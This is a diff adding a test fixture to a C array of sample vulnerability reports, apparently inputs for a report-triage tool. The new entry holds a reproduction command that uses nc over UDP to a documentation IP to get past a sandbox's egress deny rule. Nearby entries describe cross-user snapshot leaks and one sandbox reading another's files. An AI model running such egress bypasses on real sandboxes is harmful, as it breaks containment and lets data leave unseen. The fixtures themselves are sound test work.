@@ -158,6 +158,13 @@ static const struct {
 	  "users' snapshots, not just yours. So if you type a few hex chars you get whoever's snapshot matches "
 	  "first, with their files and env inside. Kat restored one of Rhea's snapshots by accident and it had "
 	  "Rhea's .env with our staging DB password and an AWS key in it.\n", TRUE },
+	/* (#3, 4279) one sentence with the command in a code span inside
+	 * it, going on after it: the writer's sentence, which describes,
+	 * and its command still the reproduction */
+	{ "--net-default deny lets UDP through",
+	  "0.13.9 on fedora 42: `msb run --net-default deny alpine -- nc -u -w1 198.51.100.7 53` reaches the "
+	  "listener on 198.51.100.7 and tcpdump shows the datagrams, so UDP ignores the egress policy and any "
+	  "sandbox can tunnel data out through it.\nno credit needed.\n", TRUE },
 	/* one sandbox reaches another's files, wrapped across five lines */
 	{ "Guest reaches other sandbox", "hey\n\ntried this on our lab\nbox. a program in one\n"
 	  "sandbox can open the\nshared files of another\nsandbox next to it.\nso one customer reads\n"
